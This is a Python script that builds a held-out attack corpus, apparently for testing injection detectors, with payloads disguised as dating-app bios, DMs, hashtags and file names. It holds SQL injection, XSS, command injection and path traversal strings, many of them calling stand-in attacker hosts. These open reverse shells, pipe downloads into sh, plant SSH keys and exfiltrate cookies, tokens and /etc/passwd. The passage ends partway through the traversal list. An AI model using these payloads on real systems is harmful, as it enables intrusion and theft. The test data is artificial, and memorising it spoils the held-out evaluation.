"""Held-out attack corpus for the `social` theme (ha47).

Attacks hidden in social-network / dating-app text: bios, posts, comments,
DMs, usernames, hashtags, @mentions, dating prompts, event invites, group
rules, moderation notes, shared links, avatar/sticker/export file names and
profile import/settings blobs.  Each value is written for a vulnerable app
that puts it where its class says (SQL string or number, shell line, file
path, fetched URL, server-side template, unescaped HTML, header / log / mail
line, LDAP filter or XPath expression, Mongo query, spreadsheet export...).

Class format: <context>-<technique>[+<encoding>]; `plain-` = no domain dressing.
Every value is hand-written for this corpus or produced by the small templates
below from hand-written pools; nothing comes from public payload lists.
Output: attacks.jsonl next to this file (deterministic, standard library only).
"""
import json
import random
from pathlib import Path

SEED = 4702
PREFIX = "ha47"

# --------------------------------------------------------------------------
# SQL injection
# --------------------------------------------------------------------------
SQLI = [
    ("bio-union-select", "she/her • 🌱 • 5'6\" ' UNION SELECT email,password_hash FROM users-- -"),
    ("prompt-tautology", "Height: 5'7' OR 1=1-- "),
    ("username-tautology-like", "d'Artagnan' OR username LIKE 'admin%'-- "),
    ("hashtag-boolean-subquery", "#vegan' AND (SELECT COUNT(*) FROM direct_messages)>0 AND '1'='1"),
    ("mention-time-blind-mysql", "@luna.moon' AND SLEEP(5)-- -"),
    ("prompt-time-blind-mssql", "Two truths & a lie: I've been to Peru'; WAITFOR DELAY '0:0:7'--"),
    ("username-time-blind-pg", "x_<3_y'||pg_sleep(6)||'"),
    ("comment-stacked-delete", "great pic 😍'); DELETE FROM comments WHERE post_id=4412;--"),
    ("hashtag-union-select", "#tbt' UNION SELECT NULL,session_token,NULL FROM sessions WHERE user_id=1--"),
    ("bio-error-extractvalue", "🌸 flower child' AND extractvalue(1,concat(0x7e,(SELECT password FROM admins LIMIT 1)))-- "),
    ("dm-error-updatexml", "hey :) ' AND updatexml(null,concat(0x3a,version(),0x3a,user()),null)-- x"),
    ("bio-error-cast-pg", "ENFJ' AND 1=CAST((SELECT string_agg(email,',') FROM users) AS int)--"),
    ("location-error-convert-mssql", "Lisbon' AND 1=CONVERT(int,(SELECT TOP 1 password FROM members))--"),
    ("bio-error-oracle-utl-inaddr", "Leo ☀️' AND 1=utl_inaddr.get_host_name((SELECT user FROM dual))--"),
    ("hashtag-boolean-substring", "#throwback' AND SUBSTRING((SELECT password FROM users WHERE username='admin'),1,1)='a'-- "),
    ("mention-boolean-ascii", "@mira.paints' AND ASCII(SUBSTR((SELECT api_key FROM integrations LIMIT 1),3,1))>77-- "),
    ("feed-sort-order-by-case", "created_at,(SELECT CASE WHEN (SELECT COUNT(*) FROM users WHERE is_admin=1)>0 THEN 1 ELSE 1/0 END)"),
    ("feed-sort-order-by-time", "likes DESC,IF((SELECT COUNT(*) FROM users WHERE is_admin=1)>0,SLEEP(4),0)"),
    ("filter-age-numeric-tautology", "25 OR 1=1"),
    ("filter-age-numeric-union", "18 AND 1=0 UNION SELECT id,email,phone FROM profiles"),
    ("feed-limit-procedure-analyse", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,@@version)),1)"),
    ("status-insert-subquery", "Feeling blessed 🙏', (SELECT password FROM users WHERE id=1))-- "),
    ("bio-update-column-overwrite", "coffee lover ☕', is_admin=1, bio='coffee lover"),
    ("pronouns-update-role", "they/them', role='moderator' WHERE username='x_<3_y'-- "),
    ("status-stacked-update", "Just vibing 🌊'; UPDATE users SET password='$2b$12$FAKEHASHFAKEHASHFAKEHu' WHERE username='admin';--"),
    ("group-stacked-xp-cmdshell", "Board game night 🎲'; EXEC master..xp_cmdshell 'ping -n 3 203.0.113.7';--"),
    ("event-stacked-copy-program", "book club';COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.9/x|sh';--"),
    ("bio-union-into-outfile", "✨ ' UNION SELECT '<?php system($_GET[\"c\"]); ?>',2 INTO OUTFILE '/var/www/html/u.php'-- "),
    ("hashtag-union-load-file", "#memories' UNION SELECT LOAD_FILE('/etc/passwd'),2,3-- -"),
    ("bio-union-sqlite-master", "🌙 night owl' UNION SELECT name,sql FROM sqlite_master-- "),
    ("search-boolean-sqlite", "brunch' AND (SELECT substr(sql,1,1) FROM sqlite_master WHERE type='table' LIMIT 1)='C'--"),
    ("mention-union-information-schema", "@dev.rahul' UNION ALL SELECT table_name,column_name FROM information_schema.columns WHERE table_schema=database()-- "),
    ("search-union+comment-spaces", "tacos'/**/UNION/**/SELECT/**/username,password/**/FROM/**/users--"),
    ("search-union+case-mix", "hiking' uNiOn SeLeCt email, pAsSwOrD fRoM accounts-- "),
    ("comment-union+versioned-comment", "lol same' /*!50000UNION*/ /*!50000SELECT*/ 1,group_concat(email),3 FROM users-- -"),
    ("search-union+url", "yoga%27%20UNION%20SELECT%20email%2Cphone%20FROM%20profiles--%20"),
    ("search-tautology+double-url", "pizza%2527%2520OR%25201%253D1--%2520"),
    ("profile-id-numeric-union-hex", "0 UNION SELECT 1,2,GROUP_CONCAT(0x3a,email,0x3a,password) FROM users"),
    ("profile-id-heavy-query", "1 AND (SELECT COUNT(*) FROM information_schema.columns A, information_schema.columns B, information_schema.columns C)>0"),
    ("dm-oob-xp-dirtree", "sure, see you there!'; EXEC master..xp_dirtree '\\\\exfil.attacker.example\\share';--"),
    ("comment-oob-utl-http", "agreed' || UTL_HTTP.request('http://sqli.attacker.example/'||(SELECT user FROM dual)) || '"),
    ("bio-oob-load-file-unc", "plant mom 🪴' AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),'.dns.attacker.example\\\\a'))-- "),
    ("group-stacked-dblink", "Plant Swap';SELECT dblink_connect('host=198.51.100.23 user=u password=p dbname=d');--"),
    ("username-second-order-comment", "admin'-- "),
    ("username-comment-hash", "moderator_lena'#"),
    ("search-error-having-mssql", "cats' GROUP BY username HAVING 1=1--"),
    ("search-boolean-regexp", "sushi' AND (SELECT password FROM users LIMIT 1) REGEXP '^[a-f]'-- "),
    ("report-conditional-error-oracle", "spam' AND (SELECT CASE WHEN (1=1) THEN TO_CHAR(1/0) ELSE NULL END FROM dual) IS NULL--"),
    ("status-stacked-time-pg", "Monday again 😩';SELECT CASE WHEN (SELECT current_user)='postgres' THEN pg_sleep(5) ELSE pg_sleep(0) END--"),
    ("event-time-benchmark", "Karaoke 🎤' AND BENCHMARK(5000000,SHA1('x'))-- "),
    ("search-time-randomblob", "ramen' AND 1=like('ABCDEFG',upper(hex(randomblob(300000000))))--"),
    ("prompt-union-select", "My ideal first date: tacos 🌮' UNION SELECT latitude,longitude FROM user_locations WHERE user_id=9001-- "),
    ("rsvp-insert-extra-row", "+1 guest'), ('mallory', 'admin', 'approved')-- "),
    ("report-backslash-quote-escape", "harassment\\' OR 1=1-- "),
    ("search-multibyte-gbk+url", "%bf%27 OR 1=1-- "),
    ("search-union-concat-ws", "dogs' UNION SELECT CONCAT_WS(0x3a,username,password),2 FROM users-- "),
    ("username-concat-subquery-oracle", "jules_f'||(SELECT password FROM users WHERE ROWNUM=1)||'"),
    ("group-concat-version", "Plant swap 🪴 rules'||(SELECT version())||'"),
    ("hashtag-order-by-enum", "#foodie' ORDER BY 9-- -"),
    ("bio-tautology-double-quote", "she/her\" OR \"a\"=\"a"),
    ("filter-union+no-space-float", "1.0UNION SELECT 1,email FROM users"),
    ("username-tautology+no-space", "kat_m'or(1)=(1)#"),
    ("hashtag-union+url-newline", "#love'%0AUNION%0ASELECT%0Apassword,1%0AFROM%0Ausers%23"),
    ("group-stacked-exec-concat", "Gamers 30+';EXEC('SEL'+'ECT * INTO leaked FROM users');--"),
    ("search-time-conditional", "bagels' AND IF(LENGTH(database())>5,SLEEP(3),0)-- "),
    ("bio-union-select-multiline", "Bio:\n☕ | 📚 | 🐕\n' UNION SELECT password FROM users WHERE username='mod_lena'-- "),
    ("username-error-floor-rand", "x_<3_y' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT email FROM users LIMIT 1),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- "),
    ("dm-boolean-exists", "ok 👍' AND EXISTS(SELECT 1 FROM users WHERE username='admin' AND password LIKE '$2b$%')-- "),
    ("group-id-numeric-stacked", "4412; UPDATE groups SET owner_id=777 WHERE id=4412"),
    ("plain-tautology", "' OR 'x'='x"),
    ("plain-union-select", "1' AND 1=2 UNION SELECT 1,2,3--"),
    ("plain-comment-truncation", "admin' --"),
    ("plain-stacked-time-pg", "1;SELECT pg_sleep(10)"),
    ("plain-stacked-drop", "';DROP TABLE swipes;--"),
    ("plain-tautology-limit", "' OR 1=1 LIMIT 1 OFFSET 0-- "),
    ("plain-time-mssql", "1); WAITFOR DELAY '0:0:9'--"),
]

SQLI_PREFIXES = ["🌱 she/her", "#sundayfunday", "@kat_m", "Two truths & a lie: I can juggle",
                 "Lisbon → Porto", "INFP ✿ 5'5\"", "Board game night 🎲", "lol same",
                 "ENTP | 6'0\"", "#throwbackthursday"]
SQLI_SUFFIXES = [
    ("tautology", "' OR '{n}'='{n}"),
    ("time-blind-mysql", "' AND SLEEP({n})-- -"),
    ("union-select", "' UNION SELECT {cols} FROM {table}-- "),
    ("boolean-length", "' AND LENGTH((SELECT password FROM users WHERE id={n}))>{m}-- "),
    ("time-blind-pg", "';SELECT pg_sleep({n});--"),
]
SQLI_COLS = ["email,phone", "username,password_hash", "id,reset_token", "NULL,api_key,NULL"]
SQLI_TABLES = ["users", "accounts", "profiles", "admins"]
SQLI_CTX = {"🌱 she/her": "bio", "#sundayfunday": "hashtag", "@kat_m": "mention",
            "Two truths & a lie: I can juggle": "prompt", "Lisbon → Porto": "location",
            "INFP ✿ 5'5\"": "bio", "Board game night 🎲": "event", "lol same": "comment",
            "ENTP | 6'0\"": "bio", "#throwbackthursday": "hashtag"}


def sqli_template(rng):
    pre = rng.choice(SQLI_PREFIXES)
    tech, suf = rng.choice(SQLI_SUFFIXES)
    v = pre + suf.format(n=rng.randint(2, 9), m=rng.randint(4, 40),
                         cols=rng.choice(SQLI_COLS), table=rng.choice(SQLI_TABLES))
    return f"{SQLI_CTX[pre]}-{tech}", v


# --------------------------------------------------------------------------
# XSS / HTML injection
# --------------------------------------------------------------------------
XSS = [
    ("bio-script-tag", "she/her 🌸 <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("username-img-onerror", "x_<3_y<img src=x onerror=alert(document.domain)>"),
    ("status-svg-onload", "Loving this weather ☀️<svg onload=\"new Image().src='//attacker.example/k?'+localStorage.token\">"),
    ("displayname-attr-breakout", "Mira 🎨\" autofocus onfocus=\"location='//attacker.example/?c='+document.cookie"),
    ("location-attr-breakout-single", "Lisbon' onmouseover='fetch(`//attacker.example/${document.cookie}`)"),
    ("website-javascript-uri", "javascript:fetch('//attacker.example/?'+document.cookie)"),
    ("website-javascript-uri+case-mix", "JaVaScRiPt:alert(document.domain)"),
    ("website-javascript-uri+html-entity-tab", "java&#x09;script:alert(document.cookie)"),
    ("website-javascript-uri+html-entities", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)"),
    ("website-data-uri+base64", "data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+"),
    ("comment-textarea-breakout", "lol same</textarea><script>alert(document.cookie)</script>"),
    ("group-title-breakout", "Plant Swap 🪴</title><svg/onload=alert(document.cookie)>"),
    ("group-js-string-breakout", "Plant Swap';alert(document.domain);//"),
    ("event-js-block-breakout", "Maya's 30th 🎂</script><script>alert(document.domain)</script>"),
    ("event-js-template-literal", "Trivia night ${fetch('//attacker.example/t?'+document.cookie)} 🧠"),
    ("status-markdown-javascript-link", "new portfolio is up!! [see my art 🎨](javascript:alert(document.cookie))"),
    ("status-markdown-img-attr-breakout", "sunset pics 🌅 ![sunset](x\" onerror=\"alert(document.domain))"),
    ("comment-iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;parent.alert(document.domain)&lt;/script&gt;\"></iframe> 😂"),
    ("dm-details-ontoggle", "<details open ontoggle=alert(document.cookie)>🎁 surprise for you</details>"),
    ("status-video-source-onerror", "our first dance 💃 <video><source onerror=\"alert(document.domain)\"></video>"),
    ("dm-audio-onerror", "<audio src=x onerror=fetch('//attacker.example/'+document.cookie)>🎶 our song</audio>"),
    ("bio-input-autofocus", "INFP ✿ <input autofocus onfocus=alert(document.domain)>"),
    ("comment-a-href+html-entity-colon", "<a href=\"javascript&colon;alert(document.cookie)\">click for my playlist 🎧</a>"),
    ("bio-svg-animate-onbegin", "🌈 <svg><animate onbegin=alert(document.domain) attributeName=x dur=1s>"),
    ("dm-svg-xlink-href", "<svg><a xlink:href=\"javascript:alert(document.domain)\"><text x=20 y=20>tap me 💌</text></a></svg>"),
    ("comment-noscript-mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(document.cookie)>\">"),
    ("status-div-onmouseenter", "<div style=\"position:fixed;inset:0\" onmouseenter=\"alert(document.cookie)\">✨hover for a surprise✨</div>"),
    ("event-marquee-onstart", "<marquee onstart=alert(document.domain)>🎉 PARTY AT MAYA'S 🎉</marquee>"),
    ("bio-object-data-javascript", "<object data=\"javascript:alert(document.domain)\"></object>"),
    ("dm-form-credential-phishing", "<form action=\"https://attacker.example/login\" method=post><p>Session expired 😕 please log in again</p><input name=pw type=password><button>Log in</button></form>"),
    ("bio-meta-refresh", "ISTJ • 5'4\" <meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/fake-login\">"),
    ("group-base-tag-hijack", "Welcome to Brooklyn Plant Swap 🪴 <base href=\"https://attacker.example/\">"),
    ("bio-css-attr-exfil", "<style>input[name=csrf_token][value^=a]{background:url(//attacker.example/leak?c=a)}</style>"),
    ("dm-dangling-markup", "omg look at this pic 😍 <img src='https://attacker.example/log?"),
    ("bio-angular-template-injection", "✨ {{constructor.constructor('alert(document.cookie)')()}} ✨"),
    ("comment-vue-template-injection", "same lol {{_c.constructor('fetch(\"//attacker.example/\"+document.cookie)')()}}"),
    ("hashtag-dom-selector-sink", "#<img src=x onerror=alert(document.domain)>"),
    ("comment-script-tag+url", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("search-svg-onload+double-url", "%253Csvg%2520onload%253Dalert(document.domain)%253E"),
    ("status-img-onerror+html-entities", "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;&#100;&#111;&#99;&#117;&#109;&#101;&#110;&#116;&#46;&#99;&#111;&#111;&#107;&#105;&#101;&#41;\">"),
    ("comment-img-onerror+unicode-escape", "<img src=x onerror=\"\\u0061\\u006c\\u0065\\u0072\\u0074(document.domain)\">"),
    ("bio-svg-onload-string-concat", "🦋 <svg onload=top[`al`+`ert`](document.domain)>"),
    ("status-img-onerror+base64", "cute 🐶 <img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("comment-nested-tag-strip-bypass", "<scr<script>ipt>alert(document.cookie)</scr</script>ipt>"),
    ("username-svg-onload-backtick", "<svg/onload=alert`1`>"),
    ("displayname-img-slash-separators", "Jules<img/src/onerror=prompt(document.domain)>"),
    ("reaction-svg-confirm", "💖<svg onload=confirm(document.cookie)>💖"),
    ("event-script-src", "Maya's 30th 🎂</h2><script src=//attacker.example/e.js></script>"),
    ("alttext-attr-breakout", "sunset at the pier 🌅\" onload=\"alert(document.domain)\" x=\""),
    ("link-reflected-query", "https://social.example/search?q=<script>alert(document.cookie)</script>"),
    ("avatar-svg-script", "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"64\" height=\"64\"><circle r=\"30\" cx=\"32\" cy=\"32\"/><script>alert(document.domain)</script></svg>"),
    ("prompt-select-autofocus", "My simple pleasures: <select autofocus onfocus=alert(document.cookie)></select>"),
    ("comment-textarea-autofocus", "<textarea autofocus onfocus=alert(document.domain)>write back 💌</textarea>"),
    ("dm-popover-onbeforetoggle", "<button popovertarget=gift>🎁 open</button><div popover id=gift onbeforetoggle=alert(document.cookie)>hi</div>"),
    ("bio-contenteditable-onblur", "<p contenteditable autofocus onblur=alert(document.domain)>edit my bio ✍️</p>"),
    ("status-onanimationstart", "<style>@keyframes pop{}</style><b style=\"animation-name:pop\" onanimationstart=\"alert(document.domain)\">✨ new post ✨</b>"),
    ("dm-onclick-account-takeover", "<a href=# onclick=\"fetch('/api/me/email',{method:'POST',credentials:'include',body:'email=x@attacker.example'})\">see who viewed your profile 👀</a>"),
    ("bio-script-self-propagating", "<script>fetch('/api/profile',{method:'PUT',credentials:'include',headers:{'Content-Type':'application/json'},body:JSON.stringify({bio:document.currentScript.outerHTML})})</script>"),
    ("bio-script-tag-multiline", "she/they 🌈\nbarista ☕\n<script>\nnew Image().src='https://attacker.example/s?c='+encodeURIComponent(document.cookie)\n</script>"),
    ("comment-script-tag+case-mix", "<ScRiPt>alert(document.domain)</sCrIpT>"),
    ("status-img-onerror+newline", "road trip 🚗 <img src=x\nonerror=alert(document.cookie)>"),
    ("dm-svg-script+html-entities", "<svg><script>alert&#40;document.domain&#41;</script></svg>"),
    ("comment-img-onerror+hex-entities", "<img src=x onerror=&#x61;&#x6C;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>"),
    ("website-javascript-uri+comment-newline", "javascript://my-portfolio%0aalert(document.cookie)"),
    ("website-javascript-uri-leading-space", "  javascript:alert(document.domain)"),
    ("bio-dom-clobbering", "<form id=config><input name=apiBase value=\"//attacker.example\"></form>"),
    ("comment-link-stylesheet", "lol <link rel=stylesheet href=//attacker.example/x.css>"),
    ("plain-script-tag", "<script>alert(1)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-svg-onload", "<svg onload=alert(1)>"),
    ("plain-attr-breakout", "\"><script>alert(document.domain)</script>"),
    ("plain-javascript-uri", "javascript:alert(1)"),
    ("plain-single-quote-breakout", "'><img src=x onerror=alert(1)>"),
    ("plain-body-onload", "<body onload=alert(document.cookie)>"),
]

XSS_PREFIXES = [("bio", "ENFP • 5'5\" • "), ("comment", "omg 😂 "), ("dm", "hiii 👋 "),
                ("status", "Sunday reset ✅ "), ("event", "Movie night 🍿 "), ("group", "Cats in boxes 📦 ")]
XSS_TAGS = [("img-onerror", "<img src=x onerror={js}>"), ("svg-onload", "<svg onload={js}>"),
            ("video-onerror", "<video src=x onerror={js}>"), ("body-onpageshow", "<body onpageshow={js}>"),
            ("iframe-onload", "<iframe onload={js}></iframe>"), ("input-onfocus", "<input autofocus onfocus={js}>")]
XSS_JS = ["alert(document.cookie)", "alert(document.domain)",
          "fetch('//attacker.example/?c='+document.cookie)",
          "location='//attacker.example/'+document.cookie",
          "navigator.sendBeacon('//attacker.example/b',localStorage.getItem('token'))"]


def xss_template(rng):
    ctx, pre = rng.choice(XSS_PREFIXES)
    tech, tag = rng.choice(XSS_TAGS)
    return f"{ctx}-{tech}", pre + tag.format(js=rng.choice(XSS_JS))


# --------------------------------------------------------------------------
# OS command injection
# --------------------------------------------------------------------------
CMDI = [
    ("avatar-filename-semicolon-pipe", "me_at_the_beach🏖️.jpg; curl -s http://203.0.113.14/a.sh | sh"),
    ("avatar-filename-pipe-netcat", "profile.png|nc 198.51.100.3 4444 -e /bin/sh"),
    ("link-preview-dollar-paren", "https://blog.example.com/post$(id)"),
    ("link-preview-backtick", "https://news.example.com/`uname -a`"),
    ("domain-verify-and", "myband.example.org && cat /etc/passwd"),
    ("domain-verify-or-chain", "myshop.example || wget http://attacker.example/b -O /tmp/b; chmod +x /tmp/b; /tmp/b"),
    ("domain-verify-newline", "crochetqueen.example\nid"),
    ("domain-verify-newline+url", "cooking.example%0Acat%20/etc/shadow"),
    ("username-semicolon+ifs", "mira_paints;cat${IFS}/etc/passwd"),
    ("avatar-filename-brace-expansion", "pic.jpg;{cat,/etc/passwd}"),
    ("plain-wildcard-glob", ";/???/??t /???/p??s??"),
    ("playlist-single-quote-breakout", "Mira's playlist' ; id ; echo '"),
    ("caption-double-quote-breakout", "summer vibes\"; whoami; echo \""),
    ("caption-command-substitution", "caption: beach day $(curl -s attacker.example/x|bash) 🌊"),
    ("timezone-time-blind", "Europe/Lisbon;sleep 10"),
    ("timezone-dollar-paren-sleep", "America/New_York$(sleep 7)"),
    ("webhook-ping-semicolon", "198.51.100.1 -c 1; ls -la /"),
    ("link-preview-curl-argument-injection", "https://attacker.example/s.php -o /var/www/html/s.php"),
    ("theme-repo-git-argument-injection", "--upload-pack=touch /tmp/pwned"),
    ("export-filename-tar-argument-injection", "--checkpoint=1 --checkpoint-action=exec=sh x.sh"),
    ("avatar-imagemagick-pipe-filename", "|curl http://203.0.113.50/m.sh|sh"),
    ("invite-email-sendmail-argument", "fan@example.org -OQueueDirectory=/tmp -X/var/www/html/rce.php"),
    ("location-ampersand-windows", "Lisbon & type C:\\Windows\\win.ini"),
    ("export-pipe-powershell", "rsvp.txt | powershell -nop -c \"iwr http://203.0.113.8/p.ps1|iex\""),
    ("search-and-whoami+url", "cats%26%26%20whoami"),
    ("domain-verify-curl+url-newline", "plantswap.example%0Acurl%20198.51.100.77%2Fp%7Csh"),
    ("hashtag-backtick-time-blind", "#blessed`sleep 5`"),
    ("bio-dns-exfil", "🌙 $(nslookup $(whoami).cmd.attacker.example)"),
    ("username-ping-hostname-exfil", "kat_m; ping -c 3 $(hostname).oob.attacker.example"),
    ("voicenote-filename-reverse-shell", "dance.mp4; bash -c 'bash -i >& /dev/tcp/203.0.113.21/9001 0>&1'"),
    ("voicenote-filename-python-reverse-shell", "track01.mp3$(python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.9\",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")')"),
    ("sticker-filename+base64", "party_parrot.gif; echo Y3VybCAtcyBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS9zaHxzaA== | base64 -d | sh"),
    ("username-quote-splitting", "jules;w'h'o'a'm'i"),
    ("username-backslash-splitting", "jules;w\\ho\\am\\i"),
    ("username-positional-param-splitting", "kat;who$@ami"),
    ("caption-printf-hex", "brunch 🥞;$(printf '\\x69\\x64')"),
    ("caption-reversed-string", "beach 🌊;$(rev<<<'dwssap/cte/ tac')"),
    ("avatar-filename-var-substring", "me.png;cat ${HOME:0:1}etc${HOME:0:1}passwd"),
    ("webhook-or-sleep", "https://hooks.example.com/x || sleep 8 ||"),
    ("webhook-ping-windows-time", "198.51.100.4 & ping -n 11 127.0.0.1 &"),
    ("avatar-filename-write-webshell", "selfie.jpg; echo '<?php system($_GET[0]);?>' > /var/www/html/p.php"),
    ("export-crontab-persistence", "my_posts.zip; (crontab -l; echo '* * * * * curl -s attacker.example/c|sh') | crontab -"),
    ("username-ssh-key-persistence", "dev.rahul; mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAAC3NzaFAKEFAKEFAKE mallory@attacker' >> ~/.ssh/authorized_keys"),
    ("export-curl-post-exfil", "contacts.vcf; curl -X POST --data-binary @/etc/passwd https://attacker.example/up"),
    ("export-tar-netcat-exfil", "backup_2025.zip; tar czf - /home | nc 203.0.113.33 9000"),
    ("caption-bash-herestring", "mood 🙃; bash<<<$(curl -s attacker.example/p)"),
    ("caption-perl-system", "lol; perl -e 'system(\"id\")'"),
    ("caption-dollar-redirect-read", "throwback 📸 $(</etc/passwd)"),
    ("avatar-windows-certutil", "avatar.png | certutil -urlcache -split -f http://203.0.113.44/a.exe %TEMP%\\a.exe && %TEMP%\\a.exe"),
    ("location-windows+caret", "Madrid & w^h^o^a^m^i"),
    ("event-name-annotate-semicolon", "🎂 Maya's 30th; id #"),
    ("export-filename-newline-wget", "chat_export_2025\nwget -qO- http://198.51.100.60/x | sh"),
    ("username-curl+ifs", "nana;curl${IFS}-s${IFS}attacker.example/i|sh"),
    ("avatar-filename+tab", "cat.png;cat\t/etc/passwd"),
    ("search-semicolon-id+double-url", "dogs%253B%2520id"),
    ("search-find-exec-argument", "*.jpg -exec sh -c 'id>/tmp/o' {} +"),
    ("export-zip-argument-injection", "posts.zip -T -TT 'sh -c \"curl attacker.example/z|sh\"'"),
    ("link-preview-wget-post-file", "--post-file=/etc/passwd http://attacker.example/"),
    ("prompt-command-substitution", "My go-to karaoke song: 'Bohemian Rhapsody' $(curl attacker.example/k|sh)"),
    ("group-slug-and-touch", "plant-swap && touch /tmp/pwned"),
    ("bio-backtick-wget", "dog dad 🐕 `wget -q -O /tmp/.d http://198.51.100.12/d && sh /tmp/.d`"),
    ("webhook-newline-multi", "https://hooks.example.com/in\ncurl -s attacker.example/1|sh\n"),
    ("plain-semicolon-id", "; id"),
    ("plain-backtick-id", "`id`"),
    ("plain-dollar-paren-whoami", "$(whoami)"),
    ("plain-and-cat-passwd", "&& cat /etc/passwd"),
    ("plain-pipe-netcat", "| nc -e /bin/sh 203.0.113.5 4444"),
    ("plain-or-id-comment", "|| id #"),
]

CMDI_FILES = [("avatar", "beach_day.jpg"), ("avatar", "me & bae.png"), ("voicenote", "voice_note_0412.ogg"),
              ("sticker", "cat_dance.webp"), ("export", "my_posts_2025.zip"), ("story", "sunset 🌅.mp4")]
CMDI_SEPS = [("semicolon", "; "), ("and", " && "), ("pipe", " | "), ("or", " || "),
             ("newline", "\n"), ("dollar-paren", "$("), ("backtick", "`")]
CMDI_CMDS = ["id", "uname -a", "cat /etc/passwd", "curl -s http://203.0.113.77/s|sh",
             "wget -qO- attacker.example/w|sh", "sleep 6", "nslookup x.oob.attacker.example"]


def cmdi_template(rng):
    ctx, f = rng.choice(CMDI_FILES)
    tech, sep = rng.choice(CMDI_SEPS)
    cmd = rng.choice(CMDI_CMDS)
    if sep == "$(":
        v = f"{f}$({cmd})"
    elif sep == "`":
        v = f"{f}`{cmd}`"
    else:
        v = f"{f}{sep}{cmd}"
    return f"{ctx}-filename-{tech}", v


# --------------------------------------------------------------------------
# Path traversal / local file inclusion
# --------------------------------------------------------------------------
TRAVERSAL = [
    ("plain-dotdot-passwd", "../../../../etc/passwd"),
    ("sticker-dotdot-shadow", "stickers/../../../../../etc/shadow"),
    ("avatar-dotdot+url", "avatars/..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("avatar-dotdot+double-url", "..%252f..%252f..%252fetc%252fpasswd"),
    ("media-dotdot+url-dots", "%2e%2e/%2e%2e/%2e%2e/etc/hosts"),
    ("media-dotdot+overlong-utf8", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("media-dotdot+overlong-utf8-3byte", "..%e0%80%af..%e0%80%af..%e0%80%afetc/passwd"),
    ("theme-dotdot-strip-bypass", "....//....//....//etc/passwd"),
    ("attachment-windows-backslash", "..\\..\\..\\..\\windows\\win.ini"),
    ("attachment-windows-backslash+url", "..%5c..%5c..%5c..%5cboot.ini"),
    ("avatar-null-byte-extension", "../../../../etc/passwd%00.jpg"),
    ("locale-log-file", "../../../../var/log/nginx/access.log"),
    ("locale-proc-environ", "en_US/../../../../proc/self/environ"),
    ("export-absolute-proc-cwd", "/proc/self/cwd/config/settings.py"),
    ("attachment-absolute-dotenv", "/var/www/app/.env"),
    ("theme-git-config", "../../.git/config"),
    ("attachment-ssh-key", "../../../home/app/.ssh/id_rsa"),
    ("media-tomcat-path-param", "/media/..;/..;/manager/html"),
    ("static-encoded-slash-source", "/static/..%2f..%2fapp.py"),
    ("theme-dotdot-nested", "dark/../../../../../etc/passwd"),
    ("story-archive-zip-slip", "../../../../var/www/html/shell.php"),
    ("photo-dotdot-after-name", "photo_2025.jpg/../../../../../../etc/passwd"),
    ("media-dotdot+iis-unicode", "..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("media-dotdot+fullwidth-dots", "%uff0e%uff0e/%uff0e%uff0e/%uff0e%uff0e/etc/passwd"),
    ("attachment-absolute-windows", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("attachment-windows-strip-bypass", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("avatar-slash-multiplication", "..///////..////..//////etc/passwd"),
    ("avatar-dotdot-fragment-suffix", "../../../../etc/passwd#.png"),
    ("avatar-dotdot-query-suffix", "../../../../etc/passwd?.jpg"),
    ("locale-proc-fd", "../../../../../proc/self/fd/2"),
    ("export-proc-cmdline", "/proc/self/cmdline"),
    ("static-nginx-conf", "../../../../../../usr/share/nginx/html/../../../etc/nginx/nginx.conf"),
    ("sticker-pack-name-dotdot", "cute-cats 🐱/../../../../app/config.yml"),
    ("emoji-pack-bash-history", "party_parrot/../../../../root/.bash_history"),
    ("media-full-url-encoding", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fgroup"),
    ("attachment-backslash+double-url", "..%255c..%255c..%255cwindows%255cwin.ini"),
    ("upload-absolute-prefix-dotdot", "/var/lib/app/uploads/../../../../etc/shadow"),
    ("attachment-web-config", "\\..\\..\\..\\web.config"),
    ("attachment-backslash+overlong-utf8", "..%c1%9c..%c1%9cwindows%c1%9cwin.ini"),
    ("dm-attachment-cross-user", "dm_attachments/4412/../../../4413/voice_note.ogg"),
    ("template-php-filter-wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("theme-k8s-token", "....//....//....//....//var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("media-dotdot+overlong-dots", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("avatar-npmrc+url", "..%2F..%2F..%2F..%2Fhome%2Fnode%2F.npmrc"),
    ("locale-null-byte", "fr/../../../../../../../etc/hostname%00"),
    ("static-css-dotdot", "/static/css/../../../../../etc/passwd"),
    ("export-archive-crontab", "my_posts_2024.zip/../../../etc/crontab"),
    ("plain-windows-dotdot", "..\\..\\..\\..\\..\\boot.ini"),
    ("plain-absolute-shadow", "/etc/shadow"),
    ("plain-dotdot+url", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
